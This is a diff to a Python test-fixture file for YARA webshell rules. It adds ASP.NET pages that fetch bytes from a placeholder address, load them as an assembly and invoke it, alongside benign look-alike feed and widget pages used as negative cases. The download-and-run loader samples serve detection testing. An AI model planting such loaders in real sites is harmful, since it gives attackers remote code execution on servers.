@@ -10,7 +10,10 @@ showed shapes our YARA rules did not know:
   ``EXT_WEBSHELL_Page_Runs_Fetched_Assembly`` (``data/rules/download_and_run.yar``) needs a fixed http(s) address in
   the page, bytes fetched (DownloadData, DownloadDataTaskAsync, GetByteArrayAsync), an assembly made from bytes
   (Assembly.Load, AppDomain.CurrentDomain.Load) and something of it run (EntryPoint, CreateInstance, or
-  GetMethod(...).Invoke);
+  GetMethod(...).Invoke); its siblings with the bytes read from a WebRequest response stream, WebClient.OpenRead,
+  DownloadString + FromBase64String or HttpClient.GetStreamAsync were found by nothing of ours after the first
+  version of the rule either, and the rule takes them; an assembly loaded by name (``Assembly.Load("Some.Name")``)
+  is not one made of fetched bytes;
 - an injector template maps one section into the page's process and into the target (``NtMapViewOfSection``),
   copies the bytes into the first view and starts the second with ``CreateRemoteThread`` - no VirtualAlloc, so X19's
   ``EXT_WEBSHELL_Shellcode_Runner_Page`` (``data/rules/shellcode_runners.yar``) stayed silent; it now takes a mapped
@@ -20,7 +23,7 @@ The pages below are harmless files in those shapes, written here (nothing is com
 request; the byte arrays are a single ``ret``), and none is a copy of a collected page. The ordinary pages are the
 closest everyday ones: an update check that downloads a library to read its version and store it, a plug-in page
 that loads its own assembly from bin, a rates feed and an image proxy that fetch bytes and call methods of their own
-types; a page that shares memory through MemoryMappedFile and a worker thread, and a monitoring page that maps a
+types, a feed page rendered by a widget from an assembly loaded by name, an RSS reader on a response stream; a page that shares memory through MemoryMappedFile and a worker thread, and a monitoring page that maps a
 section a service publishes and reads it.
 """
 
@@ -70,6 +73,48 @@ FETCHED_RUNNERS: list[Page] = [
     ),
 ]
 
+# The loader's siblings in the other fetch spellings (session 22, after 1f7616b): each was found by nothing of ours
+# on 1f7616b (the base64 one by the behaviour analysis only, ``assembly-bytes``).
+FETCHED_SIBLINGS: list[Page] = [
+    (
+        "cs-webrequest-response-stream",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
+        '    var req = System.Net.WebRequest.Create("http://192.0.2.51/a.bin");\n'
+        "    using (var rs = req.GetResponse().GetResponseStream())\n"
+        "    using (var ms = new System.IO.MemoryStream()) {\n        rs.CopyTo(ms);\n"
+        "        var asm = System.Reflection.Assembly.Load(ms.ToArray());\n"
+        "        asm.EntryPoint.Invoke(null, new object[] { new string[0] });\n    }\n}\n</script>\n",
+    ),
+    (
+        "cs-downloadstring-base64",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
+        '    string b64 = new System.Net.WebClient().DownloadString("https://192.0.2.51/p.txt");\n'
+        "    var asm = System.Reflection.Assembly.Load(Convert.FromBase64String(b64));\n"
+        '    asm.CreateInstance("P.Q");\n}\n</script>\n',
+    ),
+    (
+        "cs-openread-appdomain",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
+        '    string u = "http://192.0.2.51/m.dll";\n'
+        "    using (var s = new System.Net.WebClient().OpenRead(u))\n"
+        "    using (var ms = new System.IO.MemoryStream()) {\n        s.CopyTo(ms);\n"
+        "        AppDomain.CurrentDomain.Load(ms.ToArray()).EntryPoint.Invoke(null, null);\n    }\n}\n</script>\n",
+    ),
+    (
+        "cs-httpclient-stream-getmethod",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Http" %>\n<script runat="server">\n'
+        "protected void Page_Load(object sender, EventArgs e)\n{\n    var hc = new HttpClient();\n"
+        '    var st = hc.GetStreamAsync("https://192.0.2.51/lib").Result;\n'
+        "    var ms = new System.IO.MemoryStream(); st.CopyTo(ms);\n"
+        "    var a = System.Reflection.Assembly.Load(ms.ToArray());\n"
+        '    a.GetType("L.M").GetMethod("Run").Invoke(null, null);\n}\n</script>\n',
+    ),
+]
+
 FETCHED_ORDINARY: list[Page] = [
     (
         "update-check-reads-version",
@@ -108,6 +153,23 @@ FETCHED_ORDINARY: list[Page] = [
         "  public bool IsReusable { get { return true; } }\n  public void ProcessRequest(HttpContext ctx) {\n"
         '    byte[] pic = new System.Net.Http.HttpClient().GetByteArrayAsync("https://cdn.example.com/logo.png").Result;\n'
         '    ctx.Response.ContentType = "image/png";\n    ctx.Response.BinaryWrite(pic);\n  }\n}\n',
+    ),
+    (
+        "feed-widget-named-assembly",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
+        '    string rss = new System.Net.Http.HttpClient().GetStringAsync("https://news.example.com/feed.xml").Result;\n'
+        '    var widget = System.Reflection.Assembly.Load("Company.Widgets").CreateInstance("Company.Widgets.Feed");\n'
+        '    widget.GetType().GetMethod("Render").Invoke(widget, new object[] { rss, Response.Output });\n}\n</script>\n',
+    ),
+    (
+        "feed-reader-response-stream",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nprotected void Page_Load(object sender, EventArgs e)\n{\n'
+        '    var req = System.Net.WebRequest.Create("https://status.example.com/rss");\n'
+        "    using (var rs = req.GetResponse().GetResponseStream()) {\n"
+        "        var doc = new System.Xml.XmlDocument(); doc.Load(rs);\n"
+        '        Response.Write(Server.HtmlEncode(doc.SelectSingleNode("//title").InnerText));\n    }\n}\n</script>\n',
     ),
 ]
 
@@ -180,7 +242,7 @@ SECTION_ORDINARY: list[Page] = [
 ]
 
 CASES: list[RuleCase] = [
-    (_FETCHED, FETCHED_RUNNERS, FETCHED_ORDINARY),
+    (_FETCHED, [*FETCHED_RUNNERS, *FETCHED_SIBLINGS], FETCHED_ORDINARY),
     (_RUNNER, SECTION_RUNNERS, SECTION_ORDINARY),
 ]
 
